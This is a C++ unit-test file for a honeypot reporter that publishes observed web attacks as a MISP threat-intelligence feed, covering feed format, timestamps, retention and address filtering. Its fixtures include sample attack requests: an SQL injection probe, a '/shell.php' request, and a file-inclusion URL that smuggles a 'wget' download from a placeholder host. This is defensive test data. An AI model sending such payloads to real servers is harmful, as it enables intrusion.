// The feed directory (src/intel/feed_transport.h) through the reporter: files consistent with
// the example feed PyMISP generated (data/misp/examples/feed/), timestamps bumped in both
// the event file and the manifest on every change and only then, atomic replacement, retention,
// and warninglisted addresses absent from every file.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <regex>

#include "intel/feed_transport.h"
#include "intel/misp_json.h"
#include "intel/misp_model.h"
#include "intel/reporter.h"
#include "intel/uuid5.h"
#include "temp_dir.h"
#include "test_events.h"

namespace drosera::intel {
namespace {

using nlohmann::json;
using testutil::FakeStore;
using testutil::TempDir;

struct FeedRun {
  FakeStore store;
  TempDir dir;
  int64_t now = testutil::kDay + 12 * testutil::kHour;
  MispConfig config = testutil::baseConfig();

  std::unique_ptr<Reporter> reporter() {
    config.feed_dir = dir.path();
    ReporterOptions o;
    o.now_us = [this] { return now; };
    auto r = Reporter::create(config, "/nonexistent", &store, o);
    EXPECT_TRUE(r.isOk()) << r.status().toString();
    return r ? std::move(*r) : nullptr;
  }
  ReportStats run() {
    auto r = reporter();
    auto s = r->runOnce();
    EXPECT_TRUE(s.isOk()) << s.status().toString();
    return s ? *s : ReportStats{};
  }
  std::string eventUuidOf(const std::string& group) const {
    return eventUuid(testutil::kNamespace, group, "2025-03-14", 1);
  }
  json eventFile(const std::string& group) const {
    return testutil::readJsonFile(dir.file(eventUuidOf(group) + ".json"));
  }
  json manifest() const { return testutil::readJsonFile(dir.file("manifest.json")); }
};

TEST(FeedTest, ADayBecomesAValidFeed) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  const ReportStats st = f.run();
  EXPECT_EQ(st.events_read, testutil::dayOfAttacks().size());
  EXPECT_EQ(st.events_filtered, 6u);  // private, documentation, Censys, Shodan, sensor, allowlist
  const auto files = testutil::readDir(f.dir.path());
  // Two sensors, two daily events, plus manifest.json and hashes.csv; no temporary file.
  EXPECT_EQ(files.size(), 4u);
  for (const auto& [name, bytes] : files) {
    if (name == "manifest.json" || name == "hashes.csv") continue;
    EXPECT_TRUE(isUuid(name.substr(0, name.size() - 5))) << name;
    EXPECT_THAT(testutil::MispRules::get().checkEvent(json::parse(bytes)), ::testing::IsEmpty())
        << name;
  }
  const json m = f.manifest();
  EXPECT_EQ(m.size(), 2u);
  EXPECT_TRUE(m.contains(f.eventUuidOf("hp-web-01")));
  EXPECT_TRUE(m.contains(f.eventUuidOf("hp-web-02")));
}

TEST(FeedTest, FilesMatchTheExampleFeedFormat) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  const std::string ex_dir = testutil::mispDataDir() + "/examples/feed/";
  const json ex_event =
      testutil::readJsonFile(ex_dir + "0664ebb2-2244-5b09-888b-68a27bed2250.json");
  const json ev = f.eventFile("hp-web-01");
  // The event keys PyMISP's to_feed() writes, in its order.
  std::vector<std::string> keys, ex_keys;
  for (const auto& [k, v] : ev["Event"].items()) keys.push_back(k);
  for (const auto& [k, v] : ex_event["Event"].items()) ex_keys.push_back(k);
  EXPECT_EQ(keys, ex_keys);
  // Attribute, object and tag keys are those of the example (first_seen/last_seen optional).
  const auto keySet = [](const json& o) {
    std::set<std::string> s;
    for (const auto& [k, v] : o.items()) s.insert(k);
    return s;
  };
  EXPECT_EQ(keySet(ev["Event"]["Attribute"][0]), keySet(ex_event["Event"]["Attribute"][0]));
  EXPECT_EQ(keySet(ev["Event"]["Object"][0]), keySet(ex_event["Event"]["Object"][0]));
  EXPECT_EQ(keySet(ev["Event"]["Object"][0]["Attribute"][0]),
            keySet(ex_event["Event"]["Object"][0]["Attribute"][0]));
  EXPECT_EQ(keySet(ev["Event"]["Tag"][0]), keySet(ex_event["Event"]["Tag"][0]));
  EXPECT_EQ(ev["Event"]["Orgc"]["name"], "Example Honeypot Operator");
  EXPECT_EQ(ev["Event"]["Orgc"]["uuid"], testutil::kOrgUuid);

  // manifest.json: uuid -> the example's fields, numbers as numbers.
  const json ex_manifest = testutil::readJsonFile(ex_dir + "manifest.json");
  const json manifest = f.manifest();
  const json& entry = manifest[f.eventUuidOf("hp-web-01")];
  EXPECT_EQ(keySet(entry), keySet(ex_manifest.begin().value()));
  EXPECT_EQ(entry["timestamp"].get<int64_t>(),
            std::stoll(ev["Event"]["timestamp"].get<std::string>()));
  EXPECT_EQ(entry["analysis"], 1);
  EXPECT_EQ(entry["Tag"], ev["Event"]["Tag"]);

  // hashes.csv: md5(value),event uuid for every value, objects' included.
  const std::string hashes = testutil::readFile(f.dir.file("hashes.csv"));
  std::regex line("[0-9a-f]{32},[0-9a-f-]{36}");
  size_t n = 0;
  std::istringstream in(hashes);
  for (std::string l; std::getline(in, l); ++n) EXPECT_TRUE(std::regex_match(l, line)) << l;
  size_t values = 0;
  for (const auto& g : {"hp-web-01", "hp-web-02"}) {
    const json e = f.eventFile(g);
    values += e["Event"]["Attribute"].size();
    for (const auto& o : e["Event"]["Object"]) values += o["Attribute"].size();
  }
  EXPECT_EQ(n, values);
  EXPECT_NE(hashes.find(md5Hex(testutil::kSqli) + "," + f.eventUuidOf("hp-web-01")),
            std::string::npos);
}

TEST(FeedTest, NoWarninglistedAddressInAnyFile) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  for (const auto& [name, bytes] : testutil::readDir(f.dir.path())) {
    for (const auto& bad : testutil::forbiddenAddresses()) {
      EXPECT_EQ(bytes.find(bad), std::string::npos) << bad << " in " << name;
      EXPECT_EQ(bytes.find(md5Hex(bad)), std::string::npos) << "md5 of " << bad << " in " << name;
    }
  }
  // And the addresses that are reported really are there (the check above can fail).
  const std::string all = testutil::readFile(f.dir.file(f.eventUuidOf("hp-web-01") + ".json"));
  EXPECT_NE(all.find(testutil::kSqli), std::string::npos);
}

TEST(FeedTest, EveryChangeBumpsTheTimestampInBothFilesAndOnlyThen) {
  FeedRun f;
  auto events = testutil::dayOfAttacks();
  f.store.add({events[0]});
  f.run();
  const int64_t t1 = std::stoll(f.eventFile("hp-web-01")["Event"]["timestamp"].get<std::string>());
  EXPECT_EQ(f.manifest()[f.eventUuidOf("hp-web-01")]["timestamp"], t1);
  const auto before = testutil::readDir(f.dir.path());

  // Nothing new: nothing rewritten, no bump.
  f.now += 60 * 1000000;
  f.run();
  EXPECT_EQ(testutil::readDir(f.dir.path()), before);

  // A new event (even with the clock standing still) makes a newer timestamp in both files.
  f.store.add({events[1]});
  f.run();
  const int64_t t2 = std::stoll(f.eventFile("hp-web-01")["Event"]["timestamp"].get<std::string>());
  EXPECT_GT(t2, t1);
  EXPECT_EQ(f.manifest()[f.eventUuidOf("hp-web-01")]["timestamp"], t2);
  f.store.add({events[2]});
  f.run();
  const int64_t t3 = std::stoll(f.eventFile("hp-web-01")["Event"]["timestamp"].get<std::string>());
  EXPECT_GT(t3, t2);
  EXPECT_EQ(f.manifest()[f.eventUuidOf("hp-web-01")]["timestamp"], t3);
  // The changed attribute carries the new timestamp too (MISP edits only newer attributes).
  const json ev = f.eventFile("hp-web-01");
  EXPECT_EQ(ev["Event"]["Attribute"][0]["timestamp"], std::to_string(t3));
}

TEST(FeedTest, TheDayClosesAfterMidnightAndTheDelay) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  EXPECT_EQ(f.eventFile("hp-web-01")["Event"]["analysis"], "1");
  const int64_t t1 = std::stoll(f.eventFile("hp-web-01")["Event"]["timestamp"].get<std::string>());
  f.now = testutil::kDay + 24 * testutil::kHour + 30 * 60 * 1000000ll;  // 00:30, delay 1 h
  EXPECT_EQ(f.run().days_closed, 0u);
  EXPECT_EQ(f.eventFile("hp-web-01")["Event"]["analysis"], "1");
  f.now = testutil::kDay + 25 * testutil::kHour;
  EXPECT_EQ(f.run().days_closed, 2u);
  EXPECT_EQ(f.eventFile("hp-web-01")["Event"]["analysis"], "2");
  EXPECT_EQ(f.manifest()[f.eventUuidOf("hp-web-01")]["analysis"], 2);
  EXPECT_GT(std::stoll(f.eventFile("hp-web-01")["Event"]["timestamp"].get<std::string>()), t1);
  // Closed days stay closed; a late event still updates them.
  const auto closed = testutil::readDir(f.dir.path());
  f.now += testutil::kHour;
  f.run();
  EXPECT_EQ(testutil::readDir(f.dir.path()), closed);
  f.store.add({testutil::event("hp-web-01", "91.240.118.9", testutil::kDay + 23 * testutil::kHour,
                               "GET", "/shell.php", {}, {testutil::trap("sensitive_file")})});
  f.run();
  const json late = f.eventFile("hp-web-01");
  EXPECT_EQ(late["Event"]["analysis"], "2");
  EXPECT_NE(late.dump().find("91.240.118.9"), std::string::npos);
}

TEST(FeedTest, SensorGroupsShareOneEvent) {
  FeedRun f;
  f.config.sensor_groups = {{"web-fleet", {"hp-web-01", "hp-web-02"}}};
  f.store.add(testutil::dayOfAttacks());
  f.run();
  const json m = f.manifest();
  ASSERT_EQ(m.size(), 1u);
  const json ev = f.eventFile("web-fleet");
  EXPECT_EQ(ev["Event"]["info"], "Web honeypot web-fleet: attacks observed 2025-03-14");
  EXPECT_NE(ev.dump().find("8.8.4.4"), std::string::npos);  // from hp-web-02
}

TEST(FeedTest, BusyDaysContinueInAnotherPart) {
  FeedRun f;
  f.config.max_ips_per_event = 2;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  // hp-web-01 has 4 reportable IPs and 1 with plain traffic: parts of 2 IPs; the third part
  // holds only the plain one, so it shows nothing and is not published.
  const json m = f.manifest();
  EXPECT_TRUE(m.contains(eventUuid(testutil::kNamespace, "hp-web-01", "2025-03-14", 2)));
  EXPECT_FALSE(m.contains(eventUuid(testutil::kNamespace, "hp-web-01", "2025-03-14", 3)));
  std::set<std::string> ips;
  for (const auto& [uuid, entry] : m.items()) {
    const json ev = testutil::readJsonFile(f.dir.file(uuid + ".json"));
    EXPECT_THAT(testutil::MispRules::get().checkEvent(ev), ::testing::IsEmpty());
    for (const auto& a : ev["Event"]["Attribute"]) {
      if (a["type"] == "ip-src") {
        EXPECT_TRUE(ips.insert(a["value"]).second) << a["value"];
      }
    }
  }
  EXPECT_EQ(ips.size(), 5u);  // every attacker once, in one part (4 + hp-web-02's)
}

TEST(FeedTest, TheSensorsOwnAddressesAreLearntAndNeverReported) {
  FeedRun f;
  core::Event probe = testutil::event("hp-web-01", "77.1.2.3", testutil::kDay + testutil::kHour,
                                      "GET", "/?id=1'", {testutil::rule(942100, "SQLi")});
  probe.dst_ip = "93.184.216.34";  // the sensor's public address
  core::Event self =
      testutil::event("hp-web-01", "93.184.216.34", testutil::kDay + 2 * testutil::kHour, "GET",
                      "/?id=1'", {testutil::rule(942100, "SQLi")});
  core::Event rfi =
      testutil::event("hp-web-01", "77.1.2.3", testutil::kDay + 3 * testutil::kHour, "GET",
                      "/?page=http://93.184.216.34/x.txt;wget http://shop.example.com/a",
                      {testutil::rule(931100, "RFI")});
  f.store.add({probe, self, rfi});
  f.run();
  const std::string ev = testutil::readFile(f.dir.file(f.eventUuidOf("hp-web-01") + ".json"));
  const json j = json::parse(ev);
  for (const auto& a : j["Event"]["Attribute"]) {
    EXPECT_NE(a["value"], "93.184.216.34");
    EXPECT_EQ(a["value"].get<std::string>().find("shop.example.com"), std::string::npos);
  }
  EXPECT_NE(ev.find("77.1.2.3"), std::string::npos);
}

TEST(FeedTest, OldDaysLeaveTheFeed) {
  FeedRun f;
  f.config.feed_keep_days = 2;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  EXPECT_EQ(f.manifest().size(), 2u);
  f.now = testutil::kDay + 3 * 24 * testutil::kHour + testutil::kHour;
  f.store.add({testutil::event("hp-web-01", testutil::kSqli, f.now - testutil::kHour, "GET",
                               "/?id=1'", {testutil::rule(942100, "SQLi")})});
  f.run();
  const json m = f.manifest();
  EXPECT_EQ(m.size(), 1u);
  EXPECT_FALSE(m.contains(f.eventUuidOf("hp-web-01")));
  EXPECT_FALSE(std::filesystem::exists(f.dir.file(f.eventUuidOf("hp-web-01") + ".json")));
  EXPECT_EQ(testutil::readFile(f.dir.file("hashes.csv")).find(f.eventUuidOf("hp-web-01")),
            std::string::npos);
}

TEST(FeedTest, ACrashMidWriteLeavesTheOldFileAndRestartHeals) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  const auto good = testutil::readDir(f.dir.path());
  auto cat = testutil::catalog();
  // A write that dies before its rename leaves a temporary file and the old content.
  FeedOptions o;
  o.dir = f.dir.path();
  o.now_us = [&] { return f.now; };
  o.fault = [](const std::string& step) { return step != "rename manifest.json"; };
  auto feed = FeedTransport::open(o, &cat);
  ASSERT_TRUE(feed.isOk());
  MispEvent ev;
  ev.uuid = uuid5(testutil::kNamespace, "x");
  ev.info = "x";
  ev.date = "2025-03-14";
  ev.attributes.push_back({});
  ASSERT_TRUE((*feed)->publish({&ev, {}, false, 1}).isOk());
  EXPECT_FALSE((*feed)->flush().isOk());
  EXPECT_TRUE(std::filesystem::exists(f.dir.file(".tmp-manifest.json")));
  EXPECT_EQ(testutil::readFile(f.dir.file("manifest.json")), good.at("manifest.json"));
  // Opening the folder again removes the temporary file; the stray event joins the manifest.
  o.fault = nullptr;
  auto again = FeedTransport::open(o, &cat);
  ASSERT_TRUE(again.isOk());
  EXPECT_FALSE(std::filesystem::exists(f.dir.file(".tmp-manifest.json")));
  ASSERT_TRUE((*again)->flush().isOk());
  EXPECT_TRUE(f.manifest().contains(ev.uuid));
}

TEST(FeedTest, TheManifestIsRebuiltFromTheEventFiles) {
  FeedRun f;
  f.store.add(testutil::dayOfAttacks());
  f.run();
  const auto good = testutil::readDir(f.dir.path());
  std::filesystem::remove(f.dir.file("manifest.json"));
  std::filesystem::remove(f.dir.file("hashes.csv"));
  auto cat = testutil::catalog();
  FeedOptions o;
  o.dir = f.dir.path();
  o.now_us = [&] { return f.now; };
  auto feed = FeedTransport::open(o, &cat);
  ASSERT_TRUE(feed.isOk());
  ASSERT_TRUE((*feed)->flush().isOk());
  EXPECT_EQ(testutil::readDir(f.dir.path()), good);
}

TEST(FeedTest, DefaultFolderIsUnderTheDataDir) {
  FakeStore store;
  TempDir data;
  MispConfig c = testutil::baseConfig();
  auto r = Reporter::create(c, data.path(), &store);
  ASSERT_TRUE(r.isOk()) << r.status().toString();
  ASSERT_EQ((*r)->transports().size(), 1u);
  EXPECT_EQ((*r)->transports()[0]->name(), "feed");
  EXPECT_TRUE(std::filesystem::is_directory(data.file("misp-feed")));
}

}  // namespace
}  // namespace drosera::intel
